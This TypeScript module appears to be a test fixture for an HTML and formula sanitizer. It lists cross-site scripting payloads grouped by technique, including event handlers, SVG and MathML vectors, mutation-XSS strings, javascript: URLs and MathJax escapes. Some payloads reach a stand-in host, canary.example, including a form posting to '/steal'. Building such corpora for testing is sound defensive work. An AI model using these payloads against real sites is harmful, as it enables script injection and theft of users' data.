/** Host that nothing may ever ask. */
export const canaryHost = 'canary.example';

const canary = `https://${canaryHost}`;
const data = Buffer.from('<script>alert(1)</script>').toString('base64');
const drawing = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
).toString('base64');

/** Scripts as elements, whole, broken, nested and in the words of other grammars. */
const elements = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script\t>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  `<script src=${canary}/a.js></script>`,
  `<script src="data:text/javascript,alert(1)"></script>`,
  `<script type=module>import("${canary}/m.js")</script>`,
  '<script type=importmap>{"imports":{"x":"data:text/javascript,alert(1)"}}</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<div><template shadowrootmode=open><script>alert(1)</script><slot></slot></template></div>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<plaintext><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
];

/** Handlers on every kind of element, with every way to begin by themselves. */
const handlers = [
  '<img src=x onerror=alert(1)>',
  '<img src=x:x onerror=alert(1)//',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<img src="x" ONERROR="&#97;lert(1)">',
  '<img src=x onerror="\\u0061lert(1)">',
  '"><img src=x onerror=alert(1)>',
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)",
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<body onhashchange=alert(1)><a href=#x>x</a>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<div contenteditable autofocus onfocus=alert(1)>x</div>',
  '<a id=x tabindex=1 onfocus=alert(1) autofocus>x</a>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<video poster=x onloadstart=alert(1) src=x></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div style="animation-name:rise;animation-duration:1s" onanimationstart=alert(1)>x</div>',
  '<div style="transition:all 1s" ontransitionend=alert(1)>x</div>',
  '<div onpointerrawupdate=alert(1) onmousemove=alert(1)>x</div>',
  '<button popovertarget=p>x</button><div id=p popover onbeforetoggle=alert(1)>x</div>',
  '<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>',
  '<x contenteditable onblur=alert(1)>x</x>',
  '<style onload=alert(1)></style>',
  `<link rel=stylesheet href=${canary}/a.css onerror=alert(1)>`,
];

/** Drawings and formulas, whose elements follow other rules. */
const foreign = [
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to=alert(1) begin=0s></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><animateTransform onbegin=alert(1) attributeName=transform>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  `<svg><use href="data:image/svg+xml;base64,${drawing}#x"></use></svg>`,
  `<svg><image href="${canary}/i.svg" onload=alert(1)></image></svg>`,
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><title><script>alert(1)</script></title></svg>',
  '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
  `<img src="data:image/svg+xml;base64,${drawing}">`,
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><maction actiontype="statusline#javascript:alert(1)" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
];

/** Harmless while they are read, and a script once a browser has put them right. */
const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
  '<table><td><svg><desc><td><title><style></title><img src=x onerror=alert(1)></style></desc></svg></table>',
  '<select><style></select><img src=x onerror=alert(1)></style></select>',
  '<a title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<p style="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" data-author-style="x:y">x</p>',
  '<p title=" style=" id="><img src=x onerror=alert(1)>">x</p>',
];

/** Addresses that run, in the encodings that browsers undo. */
const addresses = [
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
  '<a href="javascript://%0aalert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  `<a href="data:text/html;base64,${data}">x</a>`,
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a data-portal-path="javascript:alert(1)" href="#">x</a>',
  '<area href="javascript:alert(1)" shape=default>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  `<form action=${canary}/steal id=f></form><button form=f formaction="javascript:alert(1)">x</button>`,
  '<input type=image src=x formaction="javascript:alert(1)">',
];

/** Payloads with frames, imports, refreshes, styles and open quotes that reach for another host. */
const reaching = [
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  `<iframe src="data:text/html;base64,${data}"></iframe>`,
  '<iframe src="https://www.youtube.com@canary.example/embed/x"></iframe>',
  `<object data="${canary}/o.swf"></object>`,
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  `<base href="${canary}/">`,
  `<meta http-equiv=refresh content="0;url=${canary}/">`,
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  `<style>@import "${canary}/s.css";</style>`,
  `<p style="background:url(${canary}/b.png)">x</p>`,
  '<p style="width:expression(alert(1));behavior:url(#default#time2)">x</p>',
  `<img src="${canary}/pixel.png" srcset="${canary}/p2.png 2x">`,
  `<img src='${canary}/dangling?`,
  `<video poster="${canary}/v.png"></video>`,
];

/** Formulas, which become elements, and escapes that become signs. */
const formulas = [
  String.raw`\(\href{javascript:alert(1)}{x}\)`,
  String.raw`\[\url{javascript:alert(1)}\]`,
  `$$\\includegraphics{${canary}/f.png}$$`,
  String.raw`\(\text{<img src=x onerror=alert(1)>}\)`,
  String.raw`\(\class{x" onmouseover="alert(1)}{y}\)`,
  `\\(\\style{background:url(${canary}/t.png)}{y}\\)`,
  String.raw`[mathjaxinline]\data{x=y}{<script>alert(1)</script>}[/mathjaxinline]`,
  String.raw`\u003cimg src=x onerror=alert(1)\u003e`,
  String.raw`\x3cscript\x3ealert(1)\x3c/script\x3e`,
  '{constructor.constructor("alert(1)")()}',
  '{name, plural, other {<script>alert(1)</script>}}',
];

/**
 * Attempts to run a script (`alert(1)`) or to reach another host from what an author or a learner writes: 135 of them.
 */
export const payloads: readonly string[] = [
  ...elements,
  ...handlers,
  ...foreign,
  ...mutations,
  ...addresses,
  ...reaching,
  ...formulas,
];
